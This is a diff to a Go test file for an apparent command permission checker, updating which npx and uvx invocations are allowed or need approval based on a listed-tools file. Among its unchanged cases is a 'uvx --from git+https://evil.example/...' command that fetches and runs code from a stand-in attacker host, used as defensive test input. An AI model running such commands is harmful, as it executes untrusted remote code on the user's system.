@@ -44,8 +44,10 @@ func TestNpxHoistedBinOff(t *testing.T) {
 		{"npx tsc -b", Allow, Allow},
 		{"bunx tsc --noEmit", Allow, Allow},
 		// Not installed where the command runs: fetched.
-		{"cd apps/api && npx vite build", Allow, Ask},
-		{"npx prettier --check .", Allow, Ask},
+		// (off31: the example tools are ones offtools.toml does not list;
+		// a listed one, vite or prettier, is allowed off undeclared.)
+		{"cd apps/api && npx webpack build", Allow, Ask},
+		{"npx esbuild src/index.ts --bundle --outfile=dist/out.js", Allow, Ask},
 		{"cd apps/api && npx cowsay hi", Ask, Ask},
 		// Its arguments are still judged: an installed prisma's db push
 		// acts on the database DATABASE_URL names, as a fetched one's does.
@@ -58,7 +60,9 @@ func TestNpxHoistedBinOff(t *testing.T) {
 	writeWS(t, ctx2.Workspace, map[string]string{"package.json": `{"devDependencies":{"typescript":"^5","@playwright/test":"^1"}}`})
 	checkOnOffIn(t, ctx2, []onOff{
 		{"npx tsc --noEmit", Allow, Ask},
-		{"npx playwright test", Allow, Ask},
+		// off31: the playwright package is Microsoft's own, listed in
+		// offtools.toml, so it is allowed off as a listed tool.
+		{"npx playwright test", Allow, Allow},
 	})
 }
 
@@ -81,7 +85,7 @@ func TestUvxDeclaredOff(t *testing.T) {
 		{"pipx run ruff check src", Allow, Allow},
 		{"uvx pip-audit", Ask, Allow},
 		{"cd src && uvx ruff check .", Allow, Allow},
-		{"uvx black --check .", Allow, Ask},
+		{"uvx bandit -r src", Allow, Ask}, // off31: not declared and not in offtools.toml (black is listed)
 		{"uvx cowsay hi", Ask, Ask},
 		{"uvx --from git+https://evil.example/ruff ruff check", Ask, Ask},
 		{"uvx --with evil ruff check .", Ask, Ask},
